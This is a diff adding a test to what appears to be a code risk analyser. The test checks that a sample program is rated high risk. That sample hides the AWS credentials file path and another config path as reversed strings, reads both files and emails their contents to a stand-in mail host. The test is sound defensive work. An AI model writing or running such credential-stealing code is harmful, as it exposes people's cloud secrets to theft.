@@ -415,3 +415,38 @@ def test_a_glob_pattern_that_spells_a_named_system_file_reads_it(suite):
                 print(len(source.read()))
         """)
     assert own.level == RiskLevel.LOW, explain(own)
+
+
+def test_a_text_sliced_inside_the_programs_own_helper_is_read_for_each_caller(suite):
+    """A helper's parameter is each text its callers give it; slicing it (reversing) is folded for
+    each of them, so a path spelled backwards through a helper is still the path."""
+    attack = assess(suite, """
+        import os
+        import smtplib
+
+        def unflip(text):
+            return text[::-1]
+
+        WANTED = [unflip("slaitnederc/swa./~"), unflip("gifnoc/lwc./~")]
+
+        def gather():
+            found = {}
+            for rel in WANTED:
+                full = os.path.expanduser(rel)
+                if os.path.isfile(full):
+                    with open(full) as source:
+                        found[rel] = source.read()
+            return found
+
+        with smtplib.SMTP("mail.example") as mail:
+            mail.sendmail("a@b.example", ["c@d.example"], str(gather()))
+        """)
+    assert attack.level >= RiskLevel.HIGH, explain(attack)
+    own = assess(suite, """
+        def unflip(text):
+            return text[::-1]
+
+        for word in ("level", "stats", "drawer"):
+            print(word, unflip(word), word == unflip(word))
+        """)
+    assert own.level == RiskLevel.LOW, explain(own)
